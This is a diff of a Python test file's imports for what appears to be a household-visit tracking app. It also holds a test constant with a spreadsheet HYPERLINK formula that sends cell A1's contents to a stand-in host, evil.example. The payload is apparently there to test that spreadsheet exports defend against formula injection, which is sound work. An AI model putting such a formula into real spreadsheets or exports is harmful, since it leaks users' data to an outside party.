@@ -11,9 +11,12 @@ from openpyxl import load_workbook
 from sqlmodel import Session, select
 
 from models import Household, Visit
-from services import annual_record, attendance, audit, request_stats
+from services import audit
 from services.audit import export_csv
+from services.events import attendance
+from services.requests import stats as request_stats
 from services.spreadsheets.writer import Sheet, csv_bytes, xlsx_bytes
+from services.year import annual_record
 from tests.helpers import account, sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
